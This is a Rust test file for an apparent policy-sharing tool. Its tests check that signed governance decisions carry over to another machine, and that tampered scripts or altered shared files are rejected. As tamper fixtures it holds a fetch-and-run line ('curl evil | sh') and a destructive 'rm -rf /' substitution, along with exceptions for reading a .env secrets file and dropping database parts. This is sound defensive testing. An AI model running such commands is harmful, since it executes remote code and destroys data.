use std::fs;

use lictor_engine::PersonKey;

use super::*;
use crate::options::Options;

const POLICY: &str = "version: 1\ncompletion:\n  command: [scripts/ready.sh]\n";

/// A machine with one project on it.
struct Machine(tempfile::TempDir);

impl Machine {
    fn new(user_policy: &str) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let write = |path: &str, text: &str| {
            let file = dir.path().join(path);
            fs::create_dir_all(file.parent().unwrap()).unwrap();
            fs::write(file, text).unwrap();
        };
        write("project/governance.yaml", POLICY);
        write("project/scripts/ready.sh", "#!/bin/sh\nexit 0\n");
        write(".config/lictor/governance.yaml", user_policy);
        Self(dir)
    }

    fn project(&self) -> Project {
        Project::around(&self.0.path().join("project"), &Options::from_process().home(self.0.path()))
    }

    fn key(&self) -> PersonKey {
        PersonKey::open_or_create(&self.project().person_keys()).unwrap()
    }

    fn trusts(&self) -> bool {
        trusted(&self.project()).unwrap().len() == 1
    }
}

fn decided() -> (Machine, String) {
    let machine = Machine::new(
        "version: 1\nbash_safety:\n  allow:\n    - rm -rf out\nexceptions:\n  \
         - {rule: secret.read, file: /home/ada/.env}\n  - {rule: database.drop-part, tool: mcp__pg__query}\n",
    );
    let project = machine.project();
    let store = project.store().unwrap();
    for program in councils::programs(&Snapshot::read(&project).unwrap().policy).unwrap() {
        program.trust(&*store, &project.root, "ada", Timestamp(1)).unwrap();
    }
    let ledger = ProjectLedger::open(project.clone(), true).unwrap();
    let plan: PlanHash = "plan1".parse().unwrap();
    let claim = Claim::new(Level::High, "a password in the source", "scanner").unwrap();
    let recorded = ledger.record(&plan, claim).unwrap();
    let reason = "an example in the docs";
    ledger
        .writing()
        .unwrap()
        .rule("plan1", recorded.id.as_str(), Verb::FalsePositive, "ada", reason, None)
        .unwrap();
    let shared = Shared::collect(&project, "ada", Timestamp(5), &machine.key()).unwrap();
    let text = shared.to_yaml().unwrap();
    assert_eq!(Shared::read("f", text.as_bytes()).unwrap(), shared, "{text}");
    (machine, text)
}

#[test]
fn another_machine_takes_over_what_fits() {
    let (_ada, text) = decided();
    let bob = Machine::new("version: 1\n");
    let shared = Shared::read("f", text.as_bytes()).unwrap();
    let dry = shared.apply(&bob.project(), "bob", Timestamp(9), true).unwrap();
    assert!(!bob.trusts() && exceptions(&bob.project()).unwrap().is_empty(), "nothing yet");
    let done = shared.apply(&bob.project(), "bob", Timestamp(9), false).unwrap();
    assert_eq!(done, dry);
    assert!(done.len() == 4 && done.iter().all(|entry| entry.taken), "{done:?}");
    assert!(bob.trusts());
    assert_eq!(exceptions(&bob.project()).unwrap(), ["rm -rf out"]);
    let lifted = |rule: &str| SharedRule { rule: rule.to_owned(), tool: None, command: None, file: None };
    let tool = SharedRule { tool: Some("mcp__pg__query".to_owned()), ..lifted("database.drop-part") };
    assert_eq!(own_rules(&bob.project()).unwrap(), [tool], "a file elsewhere is of one machine");
    // The same finding in a later plan does not count.
    let ledger = ProjectLedger::open(bob.project(), true).unwrap();
    let claim = Claim::new(Level::High, "a password in the source", "scanner").unwrap();
    assert!(!ledger.record(&"plan2".parse().unwrap(), claim).unwrap().open);
    assert!(waivers(&bob.project()).unwrap().iter().all(|waiver| waiver.by == "ada"));
}

#[test]
fn a_program_with_other_content_is_not_trusted() {
    let (_ada, text) = decided();
    let bob = Machine::new("version: 1\n");
    fs::write(bob.0.path().join("project/scripts/ready.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
    let shared = Shared::read("f", text.as_bytes()).unwrap();
    let done = shared.apply(&bob.project(), "bob", Timestamp(9), false).unwrap();
    assert!(!done[0].taken && !bob.trusts(), "{done:?}");
}

#[test]
fn a_changed_file_is_refused() {
    let (_ada, text) = decided();
    for (from, to) in
        [("rm -rf out", "rm -rf /"), ("\"ada\"", "\"eve\""), ("false-positive", "accepted-risk")]
    {
        assert!(text.contains(from), "{from}: {text}");
        let changed = text.replace(from, to);
        assert!(matches!(Shared::read("f", changed.as_bytes()), Err(ShareError::NotSigned(_))), "{from}");
    }
    assert!(matches!(Shared::read("f", b"version: 1\n"), Err(ShareError::NotShared { .. })));
}
